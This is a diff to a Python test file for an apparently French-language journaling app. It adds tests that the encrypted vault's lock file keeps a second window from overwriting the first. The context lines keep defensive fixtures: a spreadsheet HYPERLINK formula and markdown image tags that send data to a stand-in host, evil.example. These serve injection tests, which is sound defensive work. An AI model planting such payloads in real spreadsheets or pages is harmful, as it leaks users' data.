@@ -18,6 +18,7 @@ from hypothesis import strategies as st
 from journal_app.sharing import Insight
 from journal_app.theme_report import Report, to_csv, to_markdown
 from journal_app.themes.model import Theme, ThemeView
+from tests.conftest import FAST_KDF, PASSPHRASE
 
 FORMULA = '=HYPERLINK("https://evil.example/?q="&A2&B2,"Voir")'
 HOSTILE_MARKDOWN = ['<img src="https://evil.example/p.png">', "![](https://evil.example/p.png)",
@@ -571,3 +572,61 @@ def test_a_forged_invitation_pasted_first_is_not_silently_kept(db):
         circles.join(real.code())
     assert "Cercle du jeudi" in told.value.message("fr")
     circles.join(fake.code())  # the same code again is no conflict
+
+
+def test_deleting_the_lock_file_does_not_let_a_second_writer_overwrite_the_first(vault_file):
+    from journal_app.errors import LockLost
+    from journal_app.vault import Vault, lock_path
+
+    first, _ = Vault.create(vault_file, PASSPHRASE, b"one", kdf=FAST_KDF)
+    lock_path(vault_file).unlink()
+    second, content = Vault.open(vault_file, PASSPHRASE)  # the name was free: it gets in
+    assert content == b"one"
+    second.save(b"written by the second window")
+    with pytest.raises(LockLost):
+        first.save(b"written by the first window")
+    second.close()
+    with pytest.raises(LockLost):  # the second closed, yet the file changed under the first
+        first.save(b"written by the first window")
+    assert first.read() == b"written by the second window"  # what the first now shows
+    first.save(b"both, in turn")  # read back under the lock again: writing is safe
+    first.close()
+    reopened, content = Vault.open(vault_file, PASSPHRASE)
+    assert content == b"both, in turn"
+    reopened.close()
+
+
+def test_a_window_whose_lock_was_taken_keeps_the_words_it_could_not_save(tmp_path):
+    from journal_app.errors import LockLost
+    from journal_app.journal import Journal
+    from journal_app.storage import create_database, open_database
+    from journal_app.vault import lock_path
+
+    path = tmp_path / "journal.vault"
+    first, _ = create_database(path, PASSPHRASE, kdf=FAST_KDF)
+    Journal(first).add("avant")
+    lock_path(path).unlink()
+    second = open_database(path, PASSPHRASE)
+    Journal(second).add("écrit dans la deuxième fenêtre")
+    with pytest.raises(LockLost):
+        Journal(first).add("écrit dans la première")
+    # The first window's memory went back to the file: it shows the second's entry, not a ghost.
+    assert sorted(e.body for e in Journal(first).entries()) == ["avant", "écrit dans la deuxième fenêtre"]
+    second.close()
+    first.close()
+
+
+def test_a_lock_file_removed_while_nobody_else_came_is_taken_again(vault_file):
+    from journal_app.errors import VaultLocked
+    from journal_app.vault import Vault, lock_path
+
+    first, _ = Vault.create(vault_file, PASSPHRASE, b"one", kdf=FAST_KDF)
+    lock_path(vault_file).unlink()
+    first.save(b"two")  # nobody came in: the save goes through and the lock is taken again
+    assert lock_path(vault_file).exists()
+    with pytest.raises(VaultLocked):
+        Vault.open(vault_file, PASSPHRASE)
+    first.close()
+    again, content = Vault.open(vault_file, PASSPHRASE)
+    assert content == b"two"
+    again.close()
